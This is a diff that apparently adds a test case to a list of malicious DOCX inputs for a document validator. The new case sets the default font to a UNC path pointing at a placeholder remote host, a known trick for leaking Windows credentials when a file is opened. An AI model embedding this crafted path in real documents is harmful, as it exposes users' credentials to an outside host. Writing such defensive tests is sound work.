@@ -246,6 +246,10 @@ ATTACKS = {
                                     'mc:MustUnderstand="w14"')], HEADER, "mc:MustUnderstand"),
     "tracked-change": ([add_to(HEADER, '<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>x</w:t></w:r></w:ins></w:p>')],
                        HEADER, "tracked change"),
+    "a-font-that-is-a-path": ([replace_in("word/styles.xml", '<w:style w:type="paragraph" w:default="1" '
+                                          'w:styleId="Normal">', '<w:style w:type="paragraph" w:default="1" '
+                                          'w:styleId="Normal"><w:rPr><w:rFonts w:ascii="\\\\203.0.113.7\\f"/>'
+                                          '</w:rPr>')], "word/styles.xml", "font"),
     "a-huge-page": ([replace_in("word/document.xml", 'w:w="11906"', 'w:w="999999999999"')], "word/document.xml",
                     "page"),
 }
